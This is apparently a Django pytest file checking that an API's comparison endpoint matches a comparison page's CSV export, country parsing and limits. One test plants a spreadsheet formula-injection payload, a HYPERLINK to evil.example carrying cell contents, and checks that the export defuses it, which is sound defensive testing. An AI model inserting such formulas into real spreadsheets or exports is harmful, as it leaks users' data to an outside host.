"""The API's comparison answers the /compare/ page's CSV and reads countries as the page does."""

import csv
import io

import pytest

from guidance.query.grid_query import MAX_CODES

pytestmark = pytest.mark.django_db

PAGE_CSV = "/compare/comparison.csv?countries=DE,IT&sections=access&collection=2023"
# The page shows every indicator; the API shows the ones named (here the only one).
API_CSV = "/api/v1/comparison/?countries=DE,IT&sections=access&indicators=strategy&collection=2023"


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_the_api_comparison_as_csv_is_the_pages_csv(api, client, inventory):
    page = client.get(PAGE_CSV)
    by_format = api.get(f"{API_CSV}&format=csv")
    by_accept = api.get(API_CSV, HTTP_ACCEPT="text/csv")
    assert page.status_code == by_format.status_code == by_accept.status_code == 200
    assert by_format["Content-Type"] == "text/csv; charset=utf-8"
    assert by_format["Content-Disposition"] == page["Content-Disposition"]
    assert rows(by_format) == rows(by_accept) == rows(page)
    assert rows(page) == [
        ["Row", "Country", "Record year", "Status", "Text"],
        ["Access", "Germany", "2020", "Complete", "Berufsberatung by the employment agency."],
        ["Access", "Italy", "2023", "Complete", "Guidance in schools and for adults."],
        ["Strategy", "Germany", "2020", "not reported", ""],
        ["Strategy", "Italy", "2023", "Yes (since 2014)", ""],
    ]


def test_the_comparison_csv_defuses_formulas(api, inventory):
    entry = inventory["it2023"].entries.get()
    entry.body = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    entry.save()
    italian = rows(api.get(f"{API_CSV}&format=csv"))[2]
    assert italian[4] == "'" + entry.body


def test_a_bad_comparison_asked_as_csv_is_answered_in_json(api, inventory):
    response = api.get("/api/v1/comparison/?countries=XX&format=csv")
    assert response.status_code == 400
    assert list(response.json()) == ["countries"]


def test_the_schema_offers_the_comparison_as_csv(api, inventory):
    operation = api.get("/api/schema/?format=json").json()["paths"]["/api/v1/comparison/"]["get"]
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    parameters = {parameter["name"]: parameter for parameter in operation["parameters"]}
    assert parameters["format"]["schema"]["enum"] == ["csv", "json"]
    assert parameters["countries"]["schema"]["maxItems"] == MAX_CODES


@pytest.mark.parametrize(
    "countries", ["IT,DE", "DE,IT,DE", ",".join(["IT", "DE"] * (MAX_CODES // 2))]
)
def test_the_same_query_string_compares_the_same_countries(api, client, inventory, countries):
    query = f"countries={countries}&sections=access"
    page = client.get(f"/compare/?{query}")
    body = api.get(f"/api/v1/comparison/?{query}").json()
    assert page.status_code == 200
    assert [country.code for country in page.context["comparison"].countries] == body["countries"]


def test_both_refuse_more_countries_than_the_one_limit(api, client, inventory):
    query = "countries=" + ",".join(["IT", "DE"] * (MAX_CODES // 2) + ["IT"])
    page = client.get(f"/compare/?{query}")
    response = api.get(f"/api/v1/comparison/?{query}")
    assert page.status_code == response.status_code == 400
    assert f"at most {MAX_CODES}" in " ".join(page.context["query"].errors["countries"])
    assert f"at most {MAX_CODES}" in response.json()["countries"][0]


def test_the_comparison_takes_the_page_groups_and_refuses_an_unknown_one(api, client, inventory):
    query = "groups=eu&sections=access"
    page = client.get(f"/compare/?{query}")
    body = api.get(f"/api/v1/comparison/?{query}").json()
    assert [country.code for country in page.context["comparison"].countries] == body["countries"]
    assert body["countries"] == ["DE", "IT"]
    for url in ("/compare/?groups=candidates-x", "/api/v1/comparison/?groups=candidates-x"):
        assert client.get(url).status_code == 400


def test_naming_no_sections_means_all_of_them_on_both(api, client, inventory):
    page = client.get("/compare/?countries=IT,DE")
    body = api.get("/api/v1/comparison/?countries=IT,DE").json()
    page_rows = [row.subject.slug for row in page.context["comparison"].section_rows]
    assert page_rows == [row["slug"] for row in body["sections"]] == ["access"]
    page_indicators = [row.subject.slug for row in page.context["comparison"].indicator_rows]
    assert page_indicators == [row["slug"] for row in body["indicators"]] == ["strategy"]
